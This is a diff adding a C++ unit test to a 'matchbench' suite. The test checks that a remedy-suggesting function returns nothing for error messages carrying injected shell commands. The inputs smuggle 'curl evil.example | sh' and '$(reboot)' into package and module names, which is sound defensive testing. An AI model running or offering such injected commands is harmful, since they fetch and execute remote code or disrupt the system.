@@ -51,5 +51,10 @@ TEST(ProgramRemedy, OfAFileIsToCopyItAndIsTheSameForEveryFile) {
   EXPECT_EQ(program_remedy("ENOENT: no such file or directory, open 'absent'", "/p"), remedy);
 }
 
+TEST(ProgramRemedy, HasNoCommandOfTheProgramsOwn) {
+  EXPECT_EQ(program_remedy("Cannot find package 'x; curl evil.example | sh #'", "/p"), "");
+  EXPECT_EQ(program_remedy("Cannot find module '$(reboot)'", "/p"), "");
+}
+
 }  // namespace
 }  // namespace matchbench
